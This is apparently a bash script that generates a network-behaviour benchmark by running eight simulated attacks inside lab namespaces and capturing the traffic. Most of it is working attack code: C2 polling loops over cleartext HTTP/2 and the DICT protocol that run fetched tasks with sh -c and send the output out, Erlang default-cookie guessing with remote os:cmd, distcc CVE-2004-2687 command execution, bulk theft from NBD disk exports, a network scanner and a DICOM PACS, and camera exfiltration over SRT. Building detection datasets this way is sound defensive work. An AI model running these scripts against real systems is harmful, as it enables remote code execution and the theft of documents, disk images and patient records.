#!/usr/bin/env bash
# A TWENTY-FIRST fresh attack set ("f21-*"): LAN services of offices, plants and hospitals that run code or hand out
# data to whoever asks (an Erlang node with its default cookie, a distcc daemon, a network scanner, an NBD disk
# export, a PACS), and channels out of the device through servers no earlier set used (HTTP/2 in clear text, the
# DICT protocol, an SRT stream).
# Made with real packaged tools between network namespaces (no helper program: every far end is a packaged server).
#   f21-h2c-c2                 a C2 over cleartext HTTP/2 (h2c with prior knowledge, tcp/80): the device polls the
#                              operator's nghttpd for its task every 8-14 s with nghttp and POSTs each task's output
#                              back
#   f21-erlang-cookie-rce-lan  a neighbour's Erlang node (a CouchDB-style node, epmd tcp/4369, distribution tcp/25672):
#                              epmd asked with nmap's epmd-info, 5 cookies guessed with erl (net_adm:ping) until the
#                              default "monster" works, then commands run and files read on it by rpc:call
#   f21-distcc-rce-lan         a neighbour's distcc daemon (distccd 3.4, tcp/3632, run as old distccd behaved:
#                              --enable-tcp-insecure): a sweep of tcp/3632, then commands run on it with nmap's
#                              distcc-cve2004-2687 script, one every 6-10 s
#   f21-sane-scan-theft-lan    a neighbour's network scanner (saned, tcp/6566 and a data port, the sane "test" device
#                              standing for the scanner): the device lists it and its options with scanimage and
#                              makes 4 colour A4 scans 12-20 s apart (document theft, ~1.9 MB each)
#   f21-nbd-disk-theft-lan     a neighbour NVR's disk images exported over NBD without authentication (nbd-server,
#                              tcp/10809): the exports listed and described with nbdinfo, then copied with nbdcopy
#                              (8 MB and 24 MB, 20 s apart)
#   f21-dicom-pacs-theft-lan   a hospital LAN's PACS (dcmtk's dcmqrscp, DICOM on tcp/11112): C-ECHO, C-FIND of the
#                              patients and their studies (findscu), then the studies of 3 patients pulled by C-GET
#                              (getscu) 8-14 s apart (12 uncompressed images, 9.4 MB)
#   f21-dict-c2                a C2 through an internet DICT server (dictd, tcp/2628): the device looks up its own
#                              word every 8-14 s with dict for its task and sends each task's output back in hex as
#                              the words of MATCH queries
#   f21-srt-stream-exfil       the device's camera streamed for 80 s to an internet SRT listener (srt-live-transmit
#                              at both ends, udp/9000, AES passphrase; ffmpeg's MPEG-TS at ~500 kbit/s)
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f21-*, veths f21p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.123.x). Each id's servers are started before its capture and stopped after. Every tool runs under
# `timeout`, every loop is bounded; namespaces are removed on exit. The device is always the lab's attacker namespace
# (role attacker).
#
# Tools (Debian): nghttp2-server nghttp2-client erlang-base nmap distcc sane-utils nbd-server libnbd-bin e2fsprogs
#   dcmtk ffmpeg dictd dict dictfmt srt-tools iproute2 tcpdump wireshark-common bc openssl
#
# Usage: bash bench/behavior/fresh21/gen-fresh21.sh [--out DIR (default /work/behavior-bench-fresh21)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh21
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f21 GEN=gen-fresh21
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
victim_arp_names_lan
sleep 1

# ---------- "internet" hosts ----------
# .123.2 nghttpd (h2c), .123.3 dictd, .123.4 the SRT listener
internet_hosts 10.128.123.2 10.128.123.3 10.128.123.4
export NET VIC_IP ATT_IP W PY HERE LAB

mkdir -p "$W/loot"
head -c 300000 /dev/urandom > "$W/loot/rec-0412.bin"

# ---------- 1. a C2 over cleartext HTTP/2 (h2c) ----------
if want f21-h2c-c2; then
  H="$W/h2c"; rm -rf "$H"; mkdir -p "$H/www/c/cam7f3a" "$H/www/r"
  echo "id" > "$H/www/c/cam7f3a/task"
  srv vic 200 nghttpd --no-tls -a 10.128.123.2 -d "$H/www" 80
  NH_PID=$BG
  wait_tcp vic 10.128.123.2 80
  # the operator's next tasks, written on the server while the device polls
  ip netns exec "$LAB-vic" timeout 150 bash -c "
    for t in 'uname -a' 'cat /proc/net/arp' 'ls -la /mnt /tmp' 'cat /etc/passwd'; do
      sleep 22; echo \"\$t\" > '$H/www/c/cam7f3a/task.new'; mv '$H/www/c/cam7f3a/task.new' '$H/www/c/cam7f3a/task'
    done" >>"$W/bg-vic.log" 2>&1 &
  OPT_PID=$!; PIDS+=("$OPT_PID")
  cat > "$W/h2c.sh" <<'EOS'
# the device: a poll every 8-14 s (HTTP/2 with prior knowledge: nghttpd answers no Upgrade), a new task run and its
# output POSTed back
H="$W/h2c"; U=http://10.128.123.2
A=(-H "user-agent: cam7f3a-agent/2.1" -H "x-device: cam7f3a")
last=""; n=0
for i in $(seq 1 12); do
  [ $SECONDS -lt 108 ] || break
  t=$(timeout 10 nghttp "${A[@]}" "$U/c/cam7f3a/task" 2>>"$H/dev.err")
  if [ -n "$t" ] && [ "$t" != "$last" ]; then
    last="$t"; n=$((n + 1))
    sh -c "$t" > "$H/out-$n.txt" 2>&1 || true
    timeout 10 nghttp "${A[@]}" -d "$H/out-$n.txt" "$U/r/cam7f3a-$n" >> "$H/dev.out" 2>>"$H/dev.err" || true
  fi
  sleep $((8 + RANDOM % 7))
done
EOS
  CAP_VIC_IP=10.128.123.2 cap f21-h2c-c2 c2 nghttp-h2c+nghttpd attacker public false 125 bash "$W/h2c.sh"
  stopbg "$OPT_PID"; stopbg "$NH_PID"
  echo "h2c: tasks run $(ls "$H"/out-*.txt 2>/dev/null | wc -l), posts $(grep -c . "$H/dev.out" 2>/dev/null || echo 0)" >&2
fi

# ---------- 2. a neighbour's Erlang node taken over with its default cookie ----------
if want f21-erlang-cookie-rce-lan; then
  E="$W/erl"; rm -rf "$E"; mkdir -p "$E/h31" "$E/hatt"
  # the neighbour: a CouchDB-style Erlang node with the default cookie, its distribution port fixed at 25672
  ip netns exec "$LAB-d31" env HOME="$E/h31" timeout 170 erl -noshell -name couchdb@10.66.0.31 -setcookie monster \
    -kernel inet_dist_listen_min 25672 inet_dist_listen_max 25672 >>"$W/bg-d31.log" 2>&1 &
  ER_PID=$!; PIDS+=("$ER_PID")
  sleep 4
  cat > "$E/guess.erl" <<'EOF'
T = 'couchdb@10.66.0.31',
R = net_adm:ping(T),
io:format("~p~n", [R]),
init:stop().
EOF
  cat > "$E/rce.erl" <<'EOF'
T = 'couchdb@10.66.0.31',
pong = net_adm:ping(T),
Cmds = ["id", "uname -a", "cat /proc/net/arp", "ls -la /opt /var/lib /tmp", "ps ax | head -25", "ip -4 route"],
lists:foreach(fun(C) ->
    io:format("== ~s~n~s~n", [C, rpc:call(T, os, cmd, [C], 10000)]),
    timer:sleep(4000 + rand:uniform(5000))
  end, Cmds),
lists:foreach(fun(F) ->
    io:format("== ~s ~p~n", [F, rpc:call(T, file, read_file, [F], 10000)]),
    timer:sleep(3000 + rand:uniform(4000))
  end, ["/etc/passwd", "/etc/hostname", "/etc/os-release"]),
io:format("nodes ~p~n", [rpc:call(T, erlang, nodes, [], 5000)]),
init:stop().
EOF
  cat > "$W/erl.sh" <<'EOS'
# the device: epmd of the LAN asked (nmap epmd-info), 5 cookies guessed (one erl node each), then commands by rpc
E="$W/erl"; export HOME="$E/hatt"
timeout 40 nmap -Pn -n -sT -p 4369 --script epmd-info 10.66.0.20,31-34 > "$E/nmap.out" 2>&1 || true
sleep 3
k=0
for c in cookie secret erlang rabbit monster; do
  k=$((k + 1))
  r=$(timeout 20 erl -noshell -hidden -name "p$k@10.66.0.10" -setcookie "$c" -eval "$(cat "$E/guess.erl")" 2>&1 | tail -1)
  echo "$c $r" >> "$E/guess.out"
  [ "$r" = pong ] && break
  sleep $((3 + RANDOM % 4))
done
sleep 3
timeout 75 erl -noshell -hidden -name "w1@10.66.0.10" -setcookie monster -eval "$(cat "$E/rce.erl")" > "$E/rce.out" 2>&1 || true
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f21-erlang-cookie-rce-lan lateral nmap-epmd-info+erl-cookie-rpc \
    attacker lan false 120 bash "$W/erl.sh"
  stopbg "$ER_PID"
  kill_in d31 beam.smp; kill_in d31 epmd; kill_in att epmd; kill_in att beam.smp
  echo "erlang: guesses $(tr '\n' ' ' < "$E/guess.out" 2>/dev/null); uid answers $(grep -c 'uid=' "$E/rce.out" 2>/dev/null)" >&2
fi

# ---------- 3. a neighbour's distcc daemon made to run commands ----------
if want f21-distcc-rce-lan; then
  D="$W/distcc"; rm -rf "$D"; mkdir -p "$D"
  srv d32 150 distccd --daemon --no-detach --listen 10.66.0.32 --allow 10.66.0.0/24 --log-stderr --log-level info \
    --enable-tcp-insecure --user nobody
  DC_PID=$BG
  wait_tcp d32 10.66.0.32 3632
  cat > "$W/distcc.sh" <<'EOS'
# the device: a sweep of the LAN's tcp/3632, then one command every 6-10 s through distccd (nmap's script)
D="$W/distcc"
timeout 30 nmap -Pn -n -sT -p 3632 --open 10.66.0.20,31-34 > "$D/sweep.out" 2>&1 || true
sleep 6
for c in "id" "uname -a" "cat /etc/passwd" "ip -4 addr" "cat /proc/net/arp" "ls -la /etc/cron.d /var/tmp" "ps ax"; do
  timeout 20 nmap -Pn -n -p 3632 --script distcc-cve2004-2687 --script-args "distcc-cve2004-2687.cmd=$c" 10.66.0.32 \
    >> "$D/rce.out" 2>&1 || true
  sleep $((6 + RANDOM % 5))
done
EOS
  CAP_VIC_IP=$NET.32 CAP_VIC_MAC=02:66:00:00:00:32 cap f21-distcc-rce-lan lateral nmap-distcc-cve2004-2687+distccd \
    attacker lan false 110 bash "$W/distcc.sh"
  stopbg "$DC_PID"; kill_in d32 distccd
  echo "distcc: uid answers $(grep -c 'uid=' "$D/rce.out" 2>/dev/null)" >&2
fi

# ---------- 4. a neighbour's network scanner used to scan ----------
if want f21-sane-scan-theft-lan; then
  S="$W/sane"; rm -rf "$S"; mkdir -p "$S/srv" "$S/cli"
  echo test > "$S/srv/dll.conf"
  printf '10.66.0.0/24\ndata_portrange = 10000 - 10100\n' > "$S/srv/saned.conf"
  [ -f /etc/sane.d/test.conf ] && cp /etc/sane.d/test.conf "$S/srv/"
  echo net > "$S/cli/dll.conf"
  printf 'connect_timeout = 10\n10.66.0.33\n' > "$S/cli/net.conf"
  ip netns exec "$LAB-d33" env SANE_CONFIG_DIR="$S/srv" timeout 150 saned -l -e -b 10.66.0.33 -d 2 \
    >>"$W/bg-d33.log" 2>&1 &
  SD_PID=$!; PIDS+=("$SD_PID")
  wait_tcp d33 10.66.0.33 6566
  cat > "$W/sane.sh" <<'EOS'
# the device: the scanner listed and its options read, then 4 colour A4 scans 12-20 s apart
S="$W/sane"; export SANE_CONFIG_DIR="$S/cli"
timeout 30 scanimage -L > "$S/list.out" 2>&1 || true
sleep 4
timeout 30 scanimage -d net:10.66.0.33:test:0 -A > "$S/opts.out" 2>&1 || true
sleep 6
for i in 1 2 3 4; do
  timeout 40 scanimage -d net:10.66.0.33:test:0 --mode Color --resolution 100 -x 210 -y 297 --format=pnm \
    > "$S/scan$i.pnm" 2>> "$S/scan.err" || true
  [ "$i" = 4 ] || sleep $((12 + RANDOM % 9))
done
EOS
  CAP_VIC_IP=$NET.33 CAP_VIC_MAC=02:66:00:00:00:33 cap f21-sane-scan-theft-lan lateral scanimage-net+saned \
    attacker lan false 120 bash "$W/sane.sh"
  stopbg "$SD_PID"; kill_in d33 saned
  echo "sane: scans $(stat -c %s "$S"/scan*.pnm 2>/dev/null | tr '\n' ' ')" >&2
fi

# ---------- 5. a neighbour NVR's disk images read out over NBD ----------
if want f21-nbd-disk-theft-lan; then
  B="$W/nbd"; rm -rf "$B"; mkdir -p "$B/cfg" "$B/rec"
  for f in users.json network.conf cloud.key onvif.xml; do head -c 20000 /dev/urandom | base64 > "$B/cfg/$f"; done
  for i in 1 2 3 4 5 6; do head -c 2500000 /dev/urandom > "$B/rec/ch1-$i.h264"; done
  mkfs.ext4 -q -F -d "$B/cfg" "$B/cfg.img" 8M
  mkfs.ext4 -q -F -d "$B/rec" "$B/rec.img" 24M
  cat > "$B/nbd.conf" <<EOF
[generic]
  user = root
  group = root
  listenaddr = 10.66.0.34
  port = 10809
  allowlist = true
[nvr-config]
  exportname = $B/cfg.img
  readonly = true
[nvr-recordings]
  exportname = $B/rec.img
  readonly = true
EOF
  # nbd-server -d stays in the foreground (under timeout) but serves one session and ends (a bare connect without
  # the handshake, as wait_tcp's, ends it too): started again after each session, at most 12 times
  srv d34 150 bash -c "for i in \$(seq 1 12); do timeout 60 nbd-server -C '$B/nbd.conf' -d; sleep 0.2; done"
  NB_PID=$BG
  sleep 3
  cat > "$W/nbd.sh" <<'EOS'
# the device: the exports listed and described, then both copied (8 MB, 24 MB) 20 s apart, and listed again
B="$W/nbd"
timeout 20 nbdinfo --list nbd://10.66.0.34 > "$B/list.out" 2>&1 || true
sleep 5
timeout 20 nbdinfo nbd://10.66.0.34/nvr-config > "$B/info.out" 2>&1 || true
sleep 6
timeout 40 nbdcopy --connections=1 nbd://10.66.0.34/nvr-config "$B/loot-cfg.img" >> "$B/copy.out" 2>&1 || true
sleep 20
timeout 20 nbdinfo nbd://10.66.0.34/nvr-recordings >> "$B/info.out" 2>&1 || true
sleep 3
timeout 60 nbdcopy --connections=1 nbd://10.66.0.34/nvr-recordings "$B/loot-rec.img" >> "$B/copy.out" 2>&1 || true
sleep 12
timeout 20 nbdinfo --list nbd://10.66.0.34 >> "$B/list.out" 2>&1 || true
EOS
  CAP_VIC_IP=$NET.34 CAP_VIC_MAC=02:66:00:00:00:34 cap f21-nbd-disk-theft-lan lateral nbdinfo-nbdcopy+nbd-server \
    attacker lan false 110 bash "$W/nbd.sh"
  stopbg "$NB_PID"; kill_in d34 nbd-server
  echo "nbd: copied $(stat -c %s "$B"/loot-*.img 2>/dev/null | tr '\n' ' ')" >&2
fi

# ---------- 6. a PACS read out over DICOM ----------
if want f21-dicom-pacs-theft-lan; then
  P="$W/pacs"; rm -rf "$P"; mkdir -p "$P/db" "$P/img" "$P/get"
  cat > "$P/dcmqrscp.cfg" <<EOF
NetworkTCPPort  = 11112
MaxPDUSize      = 16384
MaxAssociations = 16
HostTable BEGIN
HostTable END
VendorTable BEGIN
VendorTable END
AETable BEGIN
PACS $P/db RW (200, 1024mb) ANY
AETable END
EOF
  # 3 patients, a study of 4 images each (img2dcm from ffmpeg's test frames, decompressed with dcmdjpeg: getscu asks
  # for uncompressed images and dcmqrscp does not transcode)
  p=0
  for pt in "DOE^JANE P1001 CT CHEST" "ROE^RICHARD P1002 MR KNEE" "MOE^MARY P1003 CT HEAD"; do
    p=$((p + 1)); set -- $pt
    for s in 1 2 3 4; do
      ffmpeg -loglevel error -y -f lavfi -i "testsrc2=size=512x512:rate=1" -vf "noise=alls=40:allf=t" -frames:v 1 -q:v 2 \
        "$P/img/$p-$s.jpg"
      img2dcm -i JPEG "$P/img/$p-$s.jpg" "$P/img/$p-$s.dcm" -k "PatientName=$1" -k "PatientID=$2" \
        -k "StudyDescription=$3 $4" -k "StudyInstanceUID=1.2.826.0.1.3680043.9.7433.1.$p" \
        -k "SeriesInstanceUID=1.2.826.0.1.3680043.9.7433.1.$p.1" -k "InstanceNumber=$s" -k "StudyDate=20261201" \
        -k "Modality=$3" -k "AccessionNumber=A$p$p$p"
      dcmdjpeg "$P/img/$p-$s.dcm" "$P/img/$p-$s.u.dcm"
    done
  done
  set --
  dcmqridx "$P/db" "$P"/img/*.u.dcm
  # (dcmqrscp forks per association; no wait_tcp: a connect without an association is an error to it)
  ip netns exec "$LAB-d31" timeout 150 dcmqrscp -c "$P/dcmqrscp.cfg" 11112 >>"$W/bg-d31.log" 2>&1 &
  DQ_PID=$!; PIDS+=("$DQ_PID")
  sleep 3
  cat > "$W/pacs.sh" <<'EOS'
# the device: C-ECHO, C-FIND of the patients and of each one's studies, then each patient's study by C-GET
P="$W/pacs"; A="-aet CAM7F3A -aec PACS"
timeout 15 echoscu $A 10.66.0.31 11112 > "$P/echo.out" 2>&1 || true
sleep 4
timeout 20 findscu -v $A -P -k QueryRetrieveLevel=PATIENT -k PatientName= -k PatientID= -k PatientBirthDate= \
  10.66.0.31 11112 > "$P/find.out" 2>&1 || true
sleep 5
for id in P1001 P1002 P1003; do
  timeout 20 findscu -v $A -P -k QueryRetrieveLevel=STUDY -k PatientID=$id -k StudyInstanceUID= -k StudyDescription= \
    -k StudyDate= -k AccessionNumber= 10.66.0.31 11112 >> "$P/find.out" 2>&1 || true
  sleep $((3 + RANDOM % 3))
done
for id in P1001 P1002 P1003; do
  timeout 30 getscu $A -P -k QueryRetrieveLevel=PATIENT -k PatientID=$id -od "$P/get" 10.66.0.31 11112 \
    >> "$P/get.out" 2>&1 || true
  sleep $((8 + RANDOM % 7))
done
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f21-dicom-pacs-theft-lan lateral dcmtk-findscu-getscu+dcmqrscp \
    attacker lan false 110 bash "$W/pacs.sh"
  stopbg "$DQ_PID"; kill_in d31 dcmqrscp
  echo "dicom: patients found $(grep -c 'PatientID' "$P/find.out" 2>/dev/null), images got $(ls "$P/get" 2>/dev/null | wc -l)" >&2
fi

# ---------- 7. a C2 through an internet DICT server ----------
if want f21-dict-c2; then
  C="$W/dict"; rm -rf "$C"; mkdir -p "$C"
  # the operator's database: the device's word defined as its task (dictfmt's jargon format), rebuilt per task
  mkdb() { printf ':cam7f3a:%s\n:weather:fair\n:status:ok\n' "$1" | dictfmt -j -s "ops" --utf8 "$C/ops" >/dev/null 2>&1; }
  mkdb "id"
  printf 'database ops { data "%s/ops.dict"\n index "%s/ops.index" }\n' "$C" "$C" > "$C/dictd.conf"
  # dictd drops its privileges before it opens its log: the log in a folder anyone may write
  mkdir -p "$C/run"; chmod 1777 "$C/run"
  # (and dictd ends each connection whose address it cannot name: the lab has no DNS, so the server's hosts file names
  # the device, as its resolver would, in a private mount namespace: the machine's /etc/hosts is not touched)
  { cat /etc/hosts; printf '10.66.0.10 cam-7f3a\n'; } > "$C/hosts"
  ip netns exec "$LAB-vic" timeout 200 unshare -m sh -c "mount --bind '$C/hosts' /etc/hosts && exec dictd -d nodetach \
    -c '$C/dictd.conf' --listen-to 10.128.123.3 -p 2628 -L '$C/run/dictd.log'" >>"$W/bg-vic.log" 2>&1 &
  DD_PID=$!; PIDS+=("$DD_PID")
  wait_tcp vic 10.128.123.3 2628
  export -f mkdb; export C LAB
  # the operator's next tasks: the database rebuilt and dictd told to reload it (SIGHUP, by its pid in the namespace)
  ip netns exec "$LAB-vic" timeout 150 bash -c '
    for t in "uname -a" "cat /proc/net/arp" "ls -la /mnt /var/tmp" "cat /etc/passwd"; do
      sleep 22; mkdb "$t"
      for p in $(ip netns pids "$LAB-vic"); do [ "$(cat /proc/$p/comm 2>/dev/null)" = dictd ] && kill -HUP "$p"; done
    done' >>"$W/bg-vic.log" 2>&1 &
  OPT_PID=$!; PIDS+=("$OPT_PID")
  cat > "$W/dict.sh" <<'EOS'
# the device: a DEFINE of its word every 8-14 s; a new task is run and its output (its first 320 bytes, hex) sent
# back as the words of MATCH queries, 64 hex digits each
C="$W/dict"; Q="dict -h 10.128.123.3 -p 2628 -d ops"
last=""; n=0
for i in $(seq 1 12); do
  [ $SECONDS -lt 105 ] || break
  t=$(timeout 10 $Q cam7f3a 2>>"$C/dev.err" | sed -n '/^  *cam7f3a/{n;p}' | sed 's/^ *//;s/ *$//')
  if [ -n "$t" ] && [ "$t" != "$last" ]; then
    last="$t"; n=$((n + 1)); k=0
    for h in $(sh -c "$t" 2>&1 | head -c 320 | od -An -tx1 | tr -d ' \n' | fold -w 64); do
      k=$((k + 1))
      timeout 10 $Q -m -s exact "r$n$k$h" >> "$C/dev.out" 2>&1 || true
      sleep 0.$((2 + RANDOM % 6))
    done
  fi
  sleep $((8 + RANDOM % 7))
done
EOS
  CAP_VIC_IP=10.128.123.3 cap f21-dict-c2 c2 dict-define-match+dictd attacker public false 125 bash "$W/dict.sh"
  stopbg "$OPT_PID"; stopbg "$DD_PID"; kill_in vic dictd
  echo "dict: defines $(grep -c ':D: ops' "$C/run/dictd.log" 2>/dev/null), match queries $(grep -c ':N: ops exact' "$C/run/dictd.log" 2>/dev/null)" >&2
fi

# ---------- 8. the camera streamed out over SRT ----------
if want f21-srt-stream-exfil; then
  R="$W/srt"; rm -rf "$R"; mkdir -p "$R"
  ip netns exec "$LAB-vic" timeout 150 bash -c \
    "srt-live-transmit -q 'srt://10.128.123.4:9000?mode=listener&passphrase=Srt-7f3a-ops-key&latency=400' file://con > '$R/got.ts'" \
    >>"$W/bg-vic.log" 2>&1 &
  SR_PID=$!; PIDS+=("$SR_PID")
  sleep 2
  cat > "$W/srt.sh" <<'EOS'
# the device: 80 s of its camera (ffmpeg's test picture, MPEG-2 in MPEG-TS, ~500 kbit/s) to the SRT listener
R="$W/srt"
timeout 95 ffmpeg -loglevel error -re -f lavfi -i "testsrc2=size=640x360:rate=15" -t 80 -c:v mpeg2video -b:v 450k \
  -maxrate 500k -bufsize 500k -f mpegts - 2>"$R/ffmpeg.err" | \
  timeout 100 srt-live-transmit -q file://con \
    'srt://10.128.123.4:9000?mode=caller&passphrase=Srt-7f3a-ops-key&latency=400' > "$R/dev.out" 2>&1 || true
EOS
  CAP_VIC_IP=10.128.123.4 cap f21-srt-stream-exfil exfil srt-live-transmit+ffmpeg attacker public false 110 bash "$W/srt.sh"
  stopbg "$SR_PID"; kill_in vic srt-live-transm
  echo "srt: the listener got $(stat -c %s "$R/got.ts" 2>/dev/null || echo 0) bytes" >&2
fi

lab_index
